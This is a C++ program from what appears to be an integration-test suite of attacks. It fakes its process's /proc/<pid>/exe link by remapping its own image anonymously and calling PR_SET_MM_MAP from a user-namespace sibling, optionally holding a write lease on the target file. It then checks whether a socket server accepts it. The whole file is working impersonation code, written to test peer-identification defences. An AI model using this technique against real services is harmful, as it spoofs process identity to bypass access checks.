// Makes this process's executable link (/proc/<pid>/exe) name another file:
// its own program's mappings are replaced with anonymous copies (the kernel
// refuses the change while the old file is mapped), then a sibling sharing
// its memory (CLONE_VM) in a user namespace of its own, where it holds
// CAP_SYS_ADMIN, sets the link with PR_SET_MM_MAP. The process itself stays
// in the original user namespace.
//
// usage: exe_masquerade [--lease] TARGET SOCKET   connect and send a request
//        exe_masquerade [--lease] TARGET --hold   say "ready", wait for stdin
// With --lease, a write lease is taken on TARGET first (a file this user
// owns), so that anyone who opens what the link names waits for the lease.
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <linux/prctl.h>

#include <array>
#include <cerrno>
#include <climits>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "tests/integration/attacks/attack.h"

namespace {

std::string readLink(const char* path) {
    char buffer[PATH_MAX];
    const ssize_t n = ::readlink(path, buffer, sizeof buffer - 1);
    return n > 0 ? std::string(buffer, static_cast<size_t>(n)) : std::string();
}

// Replaces every mapping of `file` with an anonymous copy of its bytes.
bool unmapFile(const std::string& file) {
    struct Region {
        unsigned long start, end;
        int prot;
    };
    std::vector<Region> regions;
    std::ifstream maps("/proc/self/maps");
    std::string line;
    while (std::getline(maps, line)) {
        std::istringstream fields(line);
        std::string range, perms, offset, device, inode, path;
        fields >> range >> perms >> offset >> device >> inode;
        std::getline(fields >> std::ws, path);
        if (path != file) {
            continue;
        }
        Region r{};
        std::sscanf(range.c_str(), "%lx-%lx", &r.start, &r.end);
        r.prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) |
                 (perms[2] == 'x' ? PROT_EXEC : 0);
        regions.push_back(r);
    }
    // Copied by the kernel through /proc/self/mem: the program's own image
    // holds bytes that a sanitizer would not let memcpy() read.
    const int self = ::open("/proc/self/mem", O_RDONLY | O_CLOEXEC);
    if (self < 0) {
        return false;
    }
    for (const Region& r : regions) {
        const size_t length = r.end - r.start;
        void* const at = reinterpret_cast<void*>(r.start);
        if ((r.prot & PROT_READ) == 0 && ::mprotect(at, length, r.prot | PROT_READ) != 0) {
            return false;
        }
        void* copy =
            ::mmap(nullptr, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED || ::pread(self, copy, length, static_cast<off_t>(r.start)) !=
                                      static_cast<ssize_t>(length)) {
            return false;
        }
        if (::mprotect(copy, length, r.prot) != 0 ||
            ::mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, at) == MAP_FAILED) {
            return false;
        }
    }
    ::close(self);
    return !regions.empty();
}

prctl_mm_map currentMap() {
    // Fields 26-28 and 45-51 of /proc/self/stat, after the command name.
    std::ifstream statFile("/proc/self/stat");
    std::string all((std::istreambuf_iterator<char>(statFile)), std::istreambuf_iterator<char>());
    std::istringstream rest(all.substr(all.rfind(')') + 2));
    std::vector<unsigned long long> field(3, 0);  // fields 1..2 are before ')'
    unsigned long long v = 0;
    std::string word;
    while (rest >> word) {
        v = std::strtoull(word.c_str(), nullptr, 10);
        field.push_back(v);
    }
    prctl_mm_map map{};
    map.start_code = field[26];
    map.end_code = field[27];
    map.start_stack = field[28];
    map.start_data = field[45];
    map.end_data = field[46];
    map.start_brk = field[47];
    map.brk = reinterpret_cast<unsigned long long>(::sbrk(0));
    map.arg_start = field[48];
    map.arg_end = field[49];
    map.env_start = field[50];
    map.env_end = field[51];
    map.auxv = nullptr;
    map.auxv_size = 0;
    map.exe_fd = static_cast<__u32>(-1);
    return map;
}

prctl_mm_map gMap;
long gResult = 0;

int setExe(void*) {
    // Shares this process's memory (and its thread-local errno): the parent
    // waits meanwhile.
    const long r = ::syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &gMap, sizeof gMap, 0);
    gResult = r < 0 ? errno : 0;
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    bool lease = false;
    int i = 1;
    if (argc > i && std::strcmp(argv[i], "--lease") == 0) {
        lease = true;
        ++i;
    }
    if (argc != i + 2) {
        std::fprintf(stderr, "usage: exe_masquerade [--lease] TARGET (SOCKET | --hold)\n");
        return 2;
    }
    const std::string target = argv[i];
    const std::string socket = argv[i + 1];

    const int exe = ::open(target.c_str(), O_RDONLY | O_CLOEXEC);
    if (exe < 0) {
        std::perror("exe_masquerade: open target");
        return 2;
    }
    // Breaking the lease signals its holder (SIGIO, which would end it).
    ::signal(SIGIO, SIG_IGN);
    if (lease && ::fcntl(exe, F_SETLEASE, F_WRLCK) != 0) {
        std::perror("exe_masquerade: lease");
        return 2;
    }
    const std::string self = readLink("/proc/self/exe");
    if (!unmapFile(self)) {
        std::perror("exe_masquerade: replacing the program's mappings");
        return 2;
    }
    gMap = currentMap();
    gMap.exe_fd = static_cast<__u32>(exe);
    std::vector<char> stack(256 * 1024);
    const pid_t sibling =
        ::clone(setExe, stack.data() + stack.size(), CLONE_VM | CLONE_NEWUSER | SIGCHLD, nullptr);
    if (sibling < 0 || ::waitpid(sibling, nullptr, 0) != sibling || gResult != 0) {
        std::fprintf(stderr, "exe_masquerade: PR_SET_MM_MAP: %s\n",
                     std::strerror(sibling < 0 ? errno : static_cast<int>(gResult)));
        return 2;
    }
    const std::string now = readLink("/proc/self/exe");
    const bool masqueraded = now == target;

    if (socket == "--hold") {
        std::printf("ready %s\n", masqueraded ? "masqueraded" : "unchanged");
        std::fflush(stdout);
        char c;
        while (::read(0, &c, 1) > 0) {
        }
        return 0;
    }
    const int fd = attack::connectTo(socket);
    attack::Outcome outcome = attack::Outcome::Closed;
    if (fd >= 0 && attack::sendRun(fd, 1)) {
        outcome = attack::awaitOutcome(fd, 5000);
    }
    attack::report(1, outcome == attack::Outcome::Served ? 1 : 0,
                   std::string("masqueraded ") + (masqueraded ? "yes" : "no") + " outcome " +
                       attack::describe(outcome));
    return 0;
}
